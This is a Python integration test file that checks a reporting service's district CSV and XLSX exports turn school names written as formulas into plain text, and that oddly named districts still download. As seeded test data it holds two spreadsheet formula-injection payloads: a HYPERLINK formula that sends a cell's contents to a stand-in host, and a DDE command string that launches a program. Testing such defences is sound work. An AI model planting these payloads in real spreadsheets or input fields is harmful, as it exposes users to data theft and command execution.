"""District exports open in a spreadsheet program as text, never as live formulas."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from devinfra.testing import wait_until
from reporting.main import SPEC

from .test_dashboard import D1, Seed, _get, _settings, serve, token

pytestmark = pytest.mark.integration

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'


async def test_a_school_name_written_as_a_formula_is_exported_as_text(make_database, infra_endpoints, topic_prefix):
    seed = Seed()
    seed.school("MN-X", EVIL, D1)
    seed.school("MN-Y", "+cmd|' /C calc'!A0", D1)
    seed.invoice("X1", "MN-X", {"meals": 500_000})
    seed.invoice("Y1", "MN-Y", {"meals": 500_000})
    await seed.publish(infra_endpoints.kafka, topic_prefix)
    settings = _settings(await make_database(SPEC.migrations), infra_endpoints, topic_prefix)
    async with serve(settings) as (base, app):

        async def applied() -> bool:
            return await app.state.runtime.db().fetchval("SELECT count(*) FROM event_log") == 4

        await wait_until(applied, what="the seed applied")
        district = token("district", district=D1)
        text = (await _get(base, f"/api/districts/{D1}/export.csv", district)).text
        names = [row[0] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))][1:]
        xlsx = (await _get(base, f"/api/districts/{D1}/export.xlsx", district)).content
        sheet = load_workbook(io.BytesIO(xlsx)).active
        cells = [row[0] for row in sheet.iter_rows(min_row=2)]

    assert "'" + EVIL in names and "'+cmd|' /C calc'!A0" in names
    assert not any(n.startswith(("=", "+")) for n in names)
    assert all(c.data_type == "s" for c in cells)
    assert "'" + EVIL in [c.value for c in cells]


async def test_an_export_of_a_district_named_with_control_or_accented_characters_downloads(
    make_database, infra_endpoints, topic_prefix
):
    # Found by schemathesis: the district id went raw into Content-Disposition (the connection dropped)
    # and into the sheet (openpyxl refused the control character).
    settings = _settings(await make_database(SPEC.migrations), infra_endpoints, topic_prefix)
    async with serve(settings) as (base, _):
        for district in ("Qu%E1%BA%ADn%1FM%E1%BB%99t", "Cầu Giấy"):  # the first percent-encoded: "Quận\x1fMột"
            for fmt in ("csv", "xlsx"):
                r = await _get(base, f"/api/districts/{district}/export.{fmt}", token("service"))
                assert r.status_code == 200, (district, fmt, r.status_code)
                assert r.headers["content-disposition"].isascii()
